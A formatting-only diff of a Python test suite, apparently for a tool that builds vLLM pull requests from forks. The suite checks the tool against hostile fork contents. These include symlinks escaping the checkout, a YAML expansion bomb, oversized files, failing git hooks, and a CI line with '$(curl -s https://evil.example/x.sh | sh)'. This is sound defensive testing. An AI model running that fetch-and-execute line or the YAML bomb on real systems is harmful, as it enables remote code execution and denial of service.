@@ -96,7 +96,10 @@ def snapshot(folder: Path) -> dict[str, tuple]:
             if path.is_symlink():
                 out[str(path)] = ("link", os.readlink(path))
             elif path.is_file():
-                out[str(path)] = ("file", hashlib.sha256(path.read_bytes()).hexdigest())
+                out[str(path)] = (
+                    "file",
+                    hashlib.sha256(path.read_bytes()).hexdigest(),
+                )
             else:
                 out[str(path)] = ("dir",)
     return out
@@ -152,8 +155,13 @@ class Attack:
     check: Callable[[Fork, str], object] | None = None
 
 
-def run(fork: Fork, capsys, *extra: str, print_body: bool = True) -> tuple[int, str]:
-    before, cache = snapshot(fork.victim), os.path.lexists(fork.root / ".ruff_cache")
+def run(
+    fork: Fork, capsys, *extra: str, print_body: bool = True
+) -> tuple[int, str]:
+    before, cache = (
+        snapshot(fork.victim),
+        os.path.lexists(fork.root / ".ruff_cache"),
+    )
     start = time.monotonic()
     argv = ["pr", "--vllm", str(fork.root), "--patch", "rms_norm_forward_cpu"]
     argv += ["--no-tests", "--no-bench"]
@@ -185,14 +193,18 @@ def added(fork: Fork, rel: str) -> str:
     return fork.repo.git.diff("HEAD~1", "HEAD", "--", rel)
 
 
-BOMB = "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12))
+BOMB = "".join(
+    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)
+)
 NESTED = "[" * 5000 + "]" * 5000
 
 ATTACKS = {
     # Writes outside the checkout.
     "untracked .cpu.yaml.new a link out": Attack(
         lambda f: f.link(
-            CI.replace("cpu.yaml", ".cpu.yaml.new"), f.victim / "bashrc", tracked=False
+            CI.replace("cpu.yaml", ".cpu.yaml.new"),
+            f.victim / "bashrc",
+            tracked=False,
         ),
         check=lambda f, _: os.path.islink(f.root / CI) is False,
     ),
@@ -200,7 +212,9 @@ ATTACKS = {
         lambda f: f.link(
             CI.replace("cpu.yaml", ".cpu.yaml.new"), "../../../victim/bashrc"
         ),
-        check=lambda f, _: "mode change" not in f.repo.git.show("--summary", "HEAD"),
+        check=lambda f, _: (
+            "mode change" not in f.repo.git.show("--summary", "HEAD")
+        ),
     ),
     ".buildkite/hardware_tests a link to an outside folder": Attack(
         lambda f: f.link(str(Path(CI).parent), f.victim / "ci"),
@@ -209,7 +223,9 @@ ATTACKS = {
     ),
     "an edited source a link inside the checkout": Attack(
         lambda f: (
-            (f.root / LAYERNORM).rename(f.root / LAYERNORM.replace("layernorm", "_c")),
+            (f.root / LAYERNORM).rename(
+                f.root / LAYERNORM.replace("layernorm", "_c")
+            ),
             f.link(LAYERNORM, "_c.py"),
         ),
         rc=2,
@@ -267,12 +283,15 @@ ATTACKS = {
     "cpu.yaml a link to an outside YAML file": Attack(
         lambda f: f.link(CI, f.victim / "cpu.yaml"),
         says="left out",
-        check=lambda f, _: "mode change" not in f.repo.git.show("--summary", "HEAD"),
+        check=lambda f, _: (
+            "mode change" not in f.repo.git.show("--summary", "HEAD")
+        ),
     ),
     # Foreign text signed off as the user's.
     "a fork's $(curl ...) CI line": Attack(
         lambda f: ci_step_line(
-            f, "      tests/kernels/x.py $(curl -s https://evil.example/x.sh | sh) \\\n"
+            f,
+            "      tests/kernels/x.py $(curl -s https://evil.example/x.sh | sh) \\\n",
         ),
         check=lambda f, _: (
             "curl"
@@ -294,7 +313,9 @@ ATTACKS = {
         says="left out",
     ),
     "a 1 GiB cpu.yaml": Attack(lambda f: f.huge(CI), says="file too large"),
-    "a 1 GiB PR template": Attack(lambda f: f.huge(TEMPLATE), says="file too large"),
+    "a 1 GiB PR template": Attack(
+        lambda f: f.huge(TEMPLATE), says="file too large"
+    ),
     "a 1 GiB .pre-commit-config.yaml": Attack(
         lambda f: f.huge(".pre-commit-config.yaml")
     ),
@@ -337,7 +358,9 @@ ATTACKS = {
         says="git refused a step",
     ),
     "a failing post-checkout hook": Attack(
-        lambda f: hook(f, "post-checkout", "exit 1"), rc=2, says="git refused a step"
+        lambda f: hook(f, "post-checkout", "exit 1"),
+        rc=2,
+        says="git refused a step",
     ),
     "--branch @{-1}": Attack(lambda f: None, rc=2, extra=("--branch", "@{-1}")),
     "an unclosed <!-- in a section the tool does not fill": Attack(
@@ -355,7 +378,8 @@ ATTACKS = {
         ),
         says="[ ] I certify that NO AI assistance was used",  # listed, unticked
         check=lambda f, out: (
-            "- [ ] I certify that NO AI assistance was used" in out and "[x]" not in out
+            "- [ ] I certify that NO AI assistance was used" in out
+            and "[x]" not in out
         ),
     ),
     "NUL bytes in the template": Attack(
@@ -442,8 +466,12 @@ def test_no_tests_runs_no_checkout_code(tmp_path, capsys):
 
     assert rc == 0 and "upstream tests: skipped (--no-tests)" in out
     assert not (victim / "ran").exists()
-    body = (Path(repo.git_dir) / "vllm-patch" / f"PR_{UPSTREAM.branch}.md").read_text()
-    assert "pytest tests/kernels/core/test_cpu_layernorm.py" in body  # the reviewer's
+    body = (
+        Path(repo.git_dir) / "vllm-patch" / f"PR_{UPSTREAM.branch}.md"
+    ).read_text()
+    assert (
+        "pytest tests/kernels/core/test_cpu_layernorm.py" in body
+    )  # the reviewer's
 
 
 def test_no_tests_with_figures_puts_no_checkout_file_in_their_copies(
@@ -492,7 +520,9 @@ def plant_package(folder: Path) -> Path:
     """A ``vllm_patch/`` in ``folder`` that leaves a mark when imported."""
     marker = folder / "imported"
     (folder / "vllm_patch").mkdir()
-    (folder / "vllm_patch" / "__init__.py").write_text(f"open({str(marker)!r}, 'w')\n")
+    (folder / "vllm_patch" / "__init__.py").write_text(
+        f"open({str(marker)!r}, 'w')\n"
+    )
     return marker
 
 
@@ -847,7 +877,8 @@ def test_the_description_stays_within_githubs_bound(fork, capsys, change):
     body = description(fork)
     assert len(body) <= 65_536, len(body)
     assert (
-        "## Claims" in body and "| metric | base | patched | patched / base |" in body
+        "## Claims" in body
+        and "| metric | base | patched | patched / base |" in body
     )
 
 
@@ -869,7 +900,10 @@ MODEL_FOLDERS = {
         "leads outside the tree",
     ),
     "config.json not JSON": (lambda t: model_folder(t, "{"), "not JSON"),
-    "config.json a list": (lambda t: model_folder(t, "[1]"), "architecture not stated"),
+    "config.json a list": (
+        lambda t: model_folder(t, "[1]"),
+        "architecture not stated",
+    ),
     "architectures a string": (
         lambda t: model_folder(t, '{"architectures": "LlamaForCausalLM"}'),
         "architecture not stated",
